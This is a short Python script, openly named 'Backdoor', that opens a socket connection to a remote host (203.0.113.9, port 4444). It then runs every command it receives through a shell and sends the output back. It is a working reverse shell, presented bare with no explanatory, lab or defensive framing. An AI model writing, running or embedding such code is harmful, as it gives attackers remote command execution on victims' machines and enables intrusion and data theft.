import socket, subprocess, json
class Backdoor:
    def __init__(self, ip, port):
        self.connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.connection.connect((ip, port))
    def run(self):
        while True:
            command = self.connection.recv(1024).decode()
            self.connection.send(subprocess.check_output(command, shell=True))
Backdoor("203.0.113.9", 4444).run()
